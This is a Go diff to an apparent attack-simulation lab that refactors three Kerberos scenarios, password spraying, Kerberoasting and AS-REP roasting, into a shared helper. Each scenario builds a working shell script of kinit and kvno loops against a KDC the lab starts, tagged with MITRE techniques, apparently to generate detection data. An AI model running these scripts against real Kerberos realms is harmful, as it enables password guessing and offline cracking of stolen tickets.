@@ -144,34 +144,48 @@ func mysqlBrute() *Scenario {
 	return s
 }
 
-// kerberosSpray is password spraying against a KDC, as against an Active
-// Directory: MIT's kinit, run once per user and password, asks srv's KDC
-// for a ticket; each wrong password is refused in pre-authentication and
-// each user the realm does not have is unknown to it.
-func kerberosSpray() *Scenario {
-	passwords := append(slices.Clone(sprayPasswords), "Summer2026!", "Spring2026!")
+// kdcScenario is a scenario against the MIT KDC it starts on srv: the
+// attacker runs the shell script script makes (given the path of the
+// lab's krb5.conf), with MIT's client tools (kinit, and extraTools).
+func kdcScenario(name, class, mitre, desc string, d time.Duration, extraTools []string, script func(a *attackRun, conf string) (string, error)) *Scenario {
 	return &Scenario{
-		Name: "kerberos-spray", Difficulty: Medium,
-		Description: fmt.Sprintf("Password spraying against the KDC of realm %s on srv: kinit tries %d passwords (%s) for each of %d users (%s), "+
-			"one request after the other; the realm has %s.", krbRealm, len(passwords), strings.Join(passwords, ", "),
-			len(bruteUsers), strings.Join(bruteUsers, ", "), strings.Join(krbPrincipals, ", ")),
-		Tools: []string{"kinit", "krb5kdc", "kdb5_util", "kadmin.local"}, Classes: []string{"bruteforce.kerberos"}, MITRE: []string{"T1110.003"},
-		Attacker: hostPtr(hostAtk), Victims: v4(hostServer), Duration: 20 * time.Second,
+		Name: name, Difficulty: Medium, Description: desc,
+		Tools:   append([]string{"kinit", "krb5kdc", "kdb5_util", "kadmin.local"}, extraTools...),
+		Classes: []string{class}, MITRE: []string{mitre},
+		Attacker: hostPtr(hostAtk), Victims: v4(hostServer), Duration: d,
 		services: []service{{hostServer, "krb5kdc", krb5kdcConfig, []int{88}, []int{88}}},
 		attack: func(a *attackRun) error {
 			conf, err := krb5Client(a.w)
 			if err != nil {
 				return err
 			}
-			pw, err := a.w.write("words/kerberos-passwords.txt", strings.Join(passwords, "\n")+"\n", 0o644)
+			sh, err := script(a, conf)
 			if err != nil {
 				return err
 			}
-			script := fmt.Sprintf("for p in $(cat %s); do for u in $(cat %s); do echo \"$p\" | KRB5_CONFIG=%s kinit \"$u@%s\" >/dev/null 2>&1; done; done; true",
-				pw, a.w.path("words/users.txt"), conf, krbRealm)
-			return a.runUpTo(hostAtk, a.duration, "sh", "-c", script)
+			return a.runUpTo(hostAtk, a.duration, "sh", "-c", sh)
 		},
 	}
+}
+
+// kerberosSpray is password spraying against a KDC, as against an Active
+// Directory: MIT's kinit, run once per user and password, asks srv's KDC
+// for a ticket; each wrong password is refused in pre-authentication and
+// each user the realm does not have is unknown to it.
+func kerberosSpray() *Scenario {
+	passwords := append(slices.Clone(sprayPasswords), "Summer2026!", "Spring2026!")
+	desc := fmt.Sprintf("Password spraying against the KDC of realm %s on srv: kinit tries %d passwords (%s) for each of %d users (%s), "+
+		"one request after the other; the realm has %s.", krbRealm, len(passwords), strings.Join(passwords, ", "),
+		len(bruteUsers), strings.Join(bruteUsers, ", "), strings.Join(krbPrincipals, ", "))
+	return kdcScenario("kerberos-spray", "bruteforce.kerberos", "T1110.003", desc, 20*time.Second, nil,
+		func(a *attackRun, conf string) (string, error) {
+			pw, err := a.w.write("words/kerberos-passwords.txt", strings.Join(passwords, "\n")+"\n", 0o644)
+			if err != nil {
+				return "", err
+			}
+			return fmt.Sprintf("for p in $(cat %s); do for u in $(cat %s); do echo \"$p\" | KRB5_CONFIG=%s kinit \"$u@%s\" >/dev/null 2>&1; done; done; true",
+				pw, a.w.path("words/users.txt"), conf, krbRealm), nil
+		})
 }
 
 // kerberoasting is an insider with a domain account (the lab user's
@@ -179,28 +193,18 @@ func kerberosSpray() *Scenario {
 // service principal of the realm with kvno; the services have RC4 keys
 // only, so the tickets come encrypted with RC4, to crack offline.
 func kerberoasting() *Scenario {
-	return &Scenario{
-		Name: "kerberoasting", Difficulty: Medium,
-		Description: fmt.Sprintf("Kerberoasting: with %s's password, kinit gets a ticket-granting ticket from the KDC of realm %s on srv, "+
-			"then kvno asks for the service tickets of the realm's %d service principals (%s), RC4-encrypted.",
-			labUser, krbRealm, len(krbServices), strings.Join(krbServices, ", ")),
-		Tools: []string{"kinit", "kvno", "krb5kdc", "kdb5_util", "kadmin.local"}, Classes: []string{"kerberos.kerberoast"}, MITRE: []string{"T1558.003"},
-		Attacker: hostPtr(hostAtk), Victims: v4(hostServer), Duration: 15 * time.Second,
-		services: []service{{hostServer, "krb5kdc", krb5kdcConfig, []int{88}, []int{88}}},
-		attack: func(a *attackRun) error {
-			conf, err := krb5Client(a.w)
-			if err != nil {
-				return err
-			}
+	desc := fmt.Sprintf("Kerberoasting: with %s's password, kinit gets a ticket-granting ticket from the KDC of realm %s on srv, "+
+		"then kvno asks for the service tickets of the realm's %d service principals (%s), RC4-encrypted.",
+		labUser, krbRealm, len(krbServices), strings.Join(krbServices, ", "))
+	return kdcScenario("kerberoasting", "kerberos.kerberoast", "T1558.003", desc, 15*time.Second, []string{"kvno"},
+		func(a *attackRun, conf string) (string, error) {
 			var spns []string
 			for _, s := range krbServices {
 				spns = append(spns, "'"+s+"@"+krbRealm+"'")
 			}
-			script := fmt.Sprintf("export KRB5_CONFIG=%s KRB5CCNAME=FILE:%s; echo '%s' | kinit %s@%s >/dev/null && kvno %s; true",
-				conf, a.w.path("krb5/attacker.ccache"), labUserPassword, labUser, krbRealm, strings.Join(spns, " "))
-			return a.runUpTo(hostAtk, a.duration, "sh", "-c", script)
-		},
-	}
+			return fmt.Sprintf("export KRB5_CONFIG=%s KRB5CCNAME=FILE:%s; echo '%s' | kinit %s@%s >/dev/null && kvno %s; true",
+				conf, a.w.path("krb5/attacker.ccache"), labUserPassword, labUser, krbRealm, strings.Join(spns, " ")), nil
+		})
 }
 
 // asrepRoasting is an outsider without credentials asking srv's KDC for
@@ -211,24 +215,14 @@ func kerberoasting() *Scenario {
 // pre-authentication, which the wrong password fails.
 func asrepRoasting() *Scenario {
 	users := append(slices.Clone(krbNoPreauth), labUser, "admin")
-	return &Scenario{
-		Name: "asrep-roasting", Difficulty: Medium,
-		Description: fmt.Sprintf("AS-REP roasting: kinit asks the KDC of realm %s on srv for the tickets of %s without a password it knows; "+
-			"%s need no pre-authentication and have RC4 keys, so the KDC sends their RC4 AS-REPs, to crack offline.",
-			krbRealm, strings.Join(users, ", "), strings.Join(krbNoPreauth, " and ")),
-		Tools: []string{"kinit", "krb5kdc", "kdb5_util", "kadmin.local"}, Classes: []string{"kerberos.asreproast"}, MITRE: []string{"T1558.004"},
-		Attacker: hostPtr(hostAtk), Victims: v4(hostServer), Duration: 15 * time.Second,
-		services: []service{{hostServer, "krb5kdc", krb5kdcConfig, []int{88}, []int{88}}},
-		attack: func(a *attackRun) error {
-			conf, err := krb5Client(a.w)
-			if err != nil {
-				return err
-			}
-			script := fmt.Sprintf("export KRB5_CONFIG=%s; for u in %s; do echo guess | kinit \"$u@%s\" >/dev/null 2>&1; done; true",
-				conf, strings.Join(users, " "), krbRealm)
-			return a.runUpTo(hostAtk, a.duration, "sh", "-c", script)
-		},
-	}
+	desc := fmt.Sprintf("AS-REP roasting: kinit asks the KDC of realm %s on srv for the tickets of %s without a password it knows; "+
+		"%s need no pre-authentication and have RC4 keys, so the KDC sends their RC4 AS-REPs, to crack offline.",
+		krbRealm, strings.Join(users, ", "), strings.Join(krbNoPreauth, " and "))
+	return kdcScenario("asrep-roasting", "kerberos.asreproast", "T1558.004", desc, 15*time.Second, nil,
+		func(_ *attackRun, conf string) (string, error) {
+			return fmt.Sprintf("export KRB5_CONFIG=%s; for u in %s; do echo guess | kinit \"$u@%s\" >/dev/null 2>&1; done; true",
+				conf, strings.Join(users, " "), krbRealm), nil
+		})
 }
 
 func fmtURL(format string, h Host) string { return fmt.Sprintf(format, h.IPv4()) }
